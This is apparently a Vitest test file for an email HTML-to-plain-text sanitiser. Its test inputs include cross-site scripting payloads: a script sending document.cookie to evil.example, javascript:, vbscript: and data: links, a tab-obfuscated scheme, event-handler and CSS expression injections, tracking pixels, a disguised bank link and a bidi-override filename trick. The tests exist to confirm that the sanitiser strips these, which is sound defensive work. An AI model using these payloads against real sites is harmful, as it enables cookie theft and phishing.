import { describe, expect, it } from "vitest";
import { htmlToSafeText } from "./html-to-text.server";

describe("htmlToSafeText", () => {
  it("keeps the words and paragraphs of an ordinary HTML mail, Slovenian letters included", () => {
    const text = htmlToSafeText(
      "<html><head><title>Mail</title></head><body><p>Pozdravljeni,</p><p>tiskalnik v <b>3. nadstropju</b> ne tiska.</p><p>Lep pozdrav,<br>Špela Čeh</p></body></html>",
    );
    expect(text).toBe("Pozdravljeni,\n\ntiskalnik v 3. nadstropju ne tiska.\n\nLep pozdrav,\nŠpela Čeh");
  });

  it("drops scripts, styles and event handlers entirely", () => {
    const text = htmlToSafeText(
      `<style>body{background:url(https://tracker.example/bg.gif)} p{width:expression(alert(1))}</style>
       <script>document.location='https://evil.example/?c='+document.cookie</script>
       <p onclick="alert(2)" style="color:expression(alert(3))">Hello</p>
       <svg onload="alert(4)"><text>svgtext</text></svg>
       <iframe src="https://evil.example/frame">frame</iframe><noscript>noscript text</noscript>`,
    );
    expect(text).toBe("Hello");
  });

  it("never lets remote images or tracking pixels through, but keeps meaningful alt text", () => {
    const text = htmlToSafeText(
      `<p>Screenshot below</p>
       <img src="http://tracker.example/open.gif?u=ana.novak@example.si" width="1" height="1">
       <img src="https://cdn.example/logo.png" alt="Company logo" onerror="alert(1)">
       <img src="data:image/png;base64,iVBORw0KGgo=">
       <div style="background-image:url('http://tracker.example/bg.gif')">End</div>`,
    );
    expect(text).toBe("Screenshot below\n\nCompany logo\nEnd");
    expect(text).not.toMatch(/tracker|https?:|data:|ana\.novak/);
  });

  it("shows where http(s) and mailto links point, and drops every other scheme", () => {
    const text = htmlToSafeText(
      `<p><a href="https://portal.example.si/reset">Reset password</a>
       <a href="mailto:podpora@example.si">podpora@example.si</a>
       <a href="javascript:alert(document.cookie)">Click me</a>
       <a href=" java&#x09;script:alert(1)">Tabbed</a>
       <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data link</a>
       <a href="vbscript:msgbox(1)">VB</a>
       <a href="https://evil.example/login">https://bank.example.si</a></p>`,
    );
    expect(text).toBe(
      "Reset password [https://portal.example.si/reset] podpora@example.si Click me Tabbed Data link VB https://bank.example.si [https://evil.example/login]",
    );
  });

  it("turns quoted HTML history into > lines so the quote stripper can find it", () => {
    const text = htmlToSafeText(
      `<div>Works now.</div><div class="gmail_quote"><div>On Mon, 3 Nov 2026 at 10:00, Support wrote:</div><blockquote>Please restart.</blockquote></div>`,
    );
    expect(text).toBe("Works now.\nOn Mon, 3 Nov 2026 at 10:00, Support wrote:\n\n> Please restart.");
  });

  it("survives absurd nesting without throwing", () => {
    const html = "<div>".repeat(5000) + "deep" + "</div>".repeat(5000);
    expect(() => htmlToSafeText(html)).not.toThrow();
  });

  it("removes control and bidi override characters that could disguise text", () => {
    expect(htmlToSafeText("<p>invoice\u202Egpj.exe\u0007</p>")).toBe("invoicegpj.exe");
  });
});
